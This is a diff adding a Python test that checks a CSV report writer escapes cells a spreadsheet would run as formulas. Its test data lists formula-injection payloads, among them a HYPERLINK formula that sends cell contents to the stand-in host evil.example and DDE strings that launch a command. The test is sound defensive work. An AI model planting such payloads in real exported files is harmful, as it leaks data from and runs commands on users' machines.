@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 
 from rendering import text
-from rendering.data import Poc, figures, months_between
+from rendering.data import Person, Poc, figures, months_between
 from rendering.fonts import font
 from rendering.layout import wrap
+from rendering.report_csv import FORMULA_STARTS, render_csv
 
 
 def test_both_languages_have_every_string():
@@ -43,3 +45,46 @@ def test_figures_count_each_declared_language_once_per_poc():
     assert result.by_language == [("Go", 2), ("Python", 1)]
     assert result.by_month == [((2025, 1), 1), ((2025, 2), 2), ((2025, 3), 0)]
     assert result.dojo_count is None and result.dojo_hours is None
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"abrir")',
+    "+55 11 9999-0000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(tmp_path):
+    pocs = [
+        Poc(
+            id=str(index),
+            name=hostile,
+            summary=hostile,
+            learnings=hostile,
+            tags=(hostile, "ok"),
+            languages=(hostile,),
+            author=Person(id="p", name=hostile),
+            contributors=(Person(id="q", name=hostile),),
+            started_on=dt.date(2025, 1, index + 1),
+        )
+        for index, hostile in enumerate(HOSTILE_CELLS)
+    ] + [Poc(id="safe", name="Cache = rápido", tags=("a-b",), started_on=dt.date(2025, 2, 1))]
+    output = tmp_path / "report.csv"
+    assert render_csv(pocs, "pt-br", output) == len(pocs)
+
+    with output.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert len(rows) == len(pocs)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), row
+    by_id = {row[0]: row for row in rows}
+    for index, hostile in enumerate(HOSTILE_CELLS):
+        name, tags, author = by_id[str(index)][1], by_id[str(index)][6], by_id[str(index)][7]
+        assert name == "'" + hostile and author == "'" + hostile
+        assert tags == "'" + hostile + "; ok"
+    assert by_id["safe"][1] == "Cache = rápido" and by_id["safe"][6] == "a-b"  # untouched
